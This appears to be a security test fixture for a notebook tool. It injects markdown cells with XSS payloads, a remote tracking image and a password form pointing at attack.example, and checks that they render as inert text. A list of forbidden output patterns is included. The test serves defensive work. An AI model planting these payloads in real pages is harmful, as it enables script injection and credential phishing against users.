r"""
tries = "scripts, forms and remote images in the instructor's browser"
must = "shown as text"
kind = "notebook"
honest = 4
"""

SOURCES = [
    "<script>alert(1)</script>",
    "![x](https://attack.example/seen.png)",
    "<img src=x onerror=alert(1)>",
    "<form action=https://attack.example><input name=password></form>",
    "[x](javascript:alert(1))",
]


def tamper(notebook, folder, scene):
    notebook["cells"] += [
        {"cell_type": "markdown", "metadata": {}, "source": source}
        for source in SOURCES
    ]


FORBIDDEN = [
    "<script>alert",
    'src="https://attack',
    "<img src=x",
    "<form action=https",
    'href="javascript',
]


def control(folder, scene):
    """What nbconvert makes of them."""
    from nbconvert.filters import markdown2html

    page = "".join(markdown2html(source) for source in SOURCES)
    return all(text in page for text in FORBIDDEN[:3])
